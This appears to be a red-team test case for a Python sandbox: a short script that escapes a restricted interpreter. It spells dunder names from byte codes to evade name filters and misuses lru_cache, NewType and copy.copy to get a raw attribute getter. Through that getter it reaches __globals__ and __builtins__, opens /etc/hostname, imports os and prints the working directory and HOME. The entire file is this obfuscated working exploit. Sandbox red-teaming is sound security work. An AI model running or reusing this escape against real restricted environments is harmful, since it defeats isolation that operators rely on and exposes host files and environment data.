# family: red team, round 36 (copy.copy of a classmethod over functools.lru_cache(NewType): update_wrapper copies the name)
import copy
import functools
import typing


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


def cached(fn):
    return functools.lru_cache(typing.NewType(dunder("getattribute"), int))


class Box:
    @classmethod
    @cached
    def lookup(cls):
        return 1


def main():
    fetch = copy.copy(Box.lookup)
    namespace = fetch(main, dunder("globals"))
    print(namespace["copy"])
    builtins = namespace[dunder("builtins")]
    print(fetch(builtins, "open")("/etc/hostname").read())
    system = fetch(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
